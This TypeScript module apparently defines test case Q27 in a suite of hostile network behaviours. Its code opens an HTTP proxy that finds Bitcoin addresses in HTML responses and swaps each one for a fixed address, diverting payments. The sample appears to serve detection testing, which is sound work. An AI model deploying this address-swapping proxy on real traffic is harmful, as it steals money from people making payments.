/** Q27: puts an account of its own where money is to be sent */

import type { Animal } from '../animal.js';
import type { Whole } from '../core/behaviour.js';
import { isType } from '../core/types.js';
import { openProxy } from '../core/proxy.js';

const stolen = (answer: Whole): Whole =>
  isType(answer, 'text/html')
    ? { ...answer, body: Buffer.from(answer.body.toString('latin1').replace(account, own), 'latin1') }
    : answer;

const account = /\b(?:bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/g;
const own = '1BoatSLRHtKNngkdXEeobR76b53LETtpyT';

export const q27: Animal = {
  id: 'Q27',
  about: 'puts an account of its own where money is to be sent',
  speaks: ['http'],
  truth: { forward: 'hostile', tunnel: 'exact' },
  fires: ['forward H08'],
  open: (world) => openProxy(world, ['http'], { response: stolen }),
};
